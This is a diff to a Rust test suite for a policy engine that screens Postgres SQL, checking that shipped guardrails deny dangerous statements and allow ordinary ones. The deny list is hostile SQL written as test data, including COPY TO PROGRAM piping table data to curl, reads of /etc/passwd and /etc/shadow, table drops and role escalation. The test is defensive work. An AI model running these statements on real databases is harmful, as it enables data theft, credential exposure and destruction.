@@ -42,6 +42,8 @@ fn sql<'a>(r: &Request<'a>, kind: &'a str, tables: &'a [String], unbounded: bool
             writes: tables,
             unbounded,
             functions: &[],
+            program: false,
+            settings: &[],
             text: "",
             params: &[],
         }),
@@ -680,4 +682,111 @@ action = "approve"
     // SQL attributes on an HTTP target's rule are a policy error.
     let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"web\"]\nprotocols = [\"http\"]\naction = \"deny\"\nwhen = \"sql.kind == 'drop'\"\n");
     assert!(e[0].contains("when applies to postgres requests"), "{e:?}");
+}
+
+#[test]
+fn the_shipped_sql_guardrails_refuse_what_they_name_and_nothing_else() {
+    use crate::protocol::postgres::sql::classify;
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies");
+    let p = load_dir(&dir, None).unwrap_or_else(|e| panic!("{e}"));
+    let verdict = |text: &str| -> (Verdict, String) {
+        let st = classify(text, &[]).unwrap_or_else(|e| panic!("{text}: {e}"));
+        let st = &st[0];
+        let r = Request {
+            uid: 1000,
+            protocol: Protocol::Postgres,
+            target: "orders-db",
+            workload: "etl",
+            op: Operation::Sql(SqlOp {
+                kind: &st.kind,
+                tables: &st.tables,
+                writes: &st.writes,
+                unbounded: st.unbounded,
+                functions: &st.functions,
+                program: st.program,
+                settings: &st.settings,
+                text: &st.text,
+                params: &[],
+            }),
+            ..Default::default()
+        };
+        let d = p.evaluate(&r, None);
+        (d.verdict, d.rule_id)
+    };
+    for (text, rule) in [
+        ("DROP TABLE orders", "sql-no-drop-or-truncate"),
+        ("truncate orders", "sql-no-drop-or-truncate"),
+        ("DELETE FROM orders", "sql-no-unbounded-writes"),
+        ("UPDATE orders SET paid = true", "sql-no-unbounded-writes"),
+        ("ALTER SYSTEM SET work_mem = '1GB'", "sql-no-alter-system"),
+        (
+            "COPY orders TO PROGRAM 'curl -d @- x'",
+            "sql-no-copy-program",
+        ),
+        ("ALTER ROLE app PASSWORD 'x'", "sql-no-role-changes"),
+        ("ALTER USER app WITH SUPERUSER", "sql-no-role-changes"),
+        ("CREATE ROLE evil LOGIN", "sql-no-role-changes"),
+        ("GRANT ALL ON orders TO public", "sql-no-role-changes"),
+        ("GRANT admin TO app", "sql-no-role-changes"),
+        ("SET ROLE admin", "sql-no-role-changes"),
+        ("SET SESSION AUTHORIZATION admin", "sql-no-role-changes"),
+        (
+            "SELECT set_config('role', 'admin', false)",
+            "sql-no-role-changes",
+        ),
+        (
+            "SELECT set_config(lower('ROLE'), 'admin', false)",
+            "sql-no-role-changes",
+        ),
+        (
+            "SELECT pg_terminate_backend(42)",
+            "sql-no-dangerous-functions",
+        ),
+        (
+            "select pg_catalog.pg_read_file('/etc/passwd')",
+            "sql-no-dangerous-functions",
+        ),
+        ("SELECT * FROM pg_ls_dir('.')", "sql-no-dangerous-functions"),
+        (
+            "SELECT lo_import('/etc/shadow')",
+            "sql-no-dangerous-functions",
+        ),
+        (
+            "SELECT public.dblink_connect('host=x')",
+            "sql-no-dangerous-functions",
+        ),
+        ("SELECT pg_reload_conf()", "sql-no-dangerous-functions"),
+        (
+            "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
+            "sql-no-do-or-call",
+        ),
+        ("CALL refresh()", "sql-no-do-or-call"),
+        (
+            "PREPARE wipe AS DELETE FROM orders",
+            "sql-no-unbounded-writes",
+        ),
+        (
+            "WITH x AS (SELECT 1) DELETE FROM orders",
+            "sql-no-unbounded-writes",
+        ),
+    ] {
+        let (v, id) = verdict(text);
+        assert_eq!(v, Verdict::Deny, "{text}");
+        assert_eq!(id.rsplit('#').next(), Some(rule), "{text}");
+    }
+    for text in [
+        "SELECT * FROM orders WHERE id = 1",
+        "DELETE FROM orders WHERE id = 1",
+        "UPDATE orders SET paid = true WHERE id = $1",
+        "INSERT INTO orders VALUES (1)",
+        "BEGIN",
+        "SET search_path = app, public",
+        "SET statement_timeout = '5s'",
+        "SELECT set_config('application_name', 'etl', false)",
+        "COPY orders TO STDOUT",
+        "CREATE TEMP TABLE scratch (id int)",
+        "SELECT lower(name) FROM customers",
+    ] {
+        assert_eq!(verdict(text).0, Verdict::Allow, "{text}");
+    }
 }
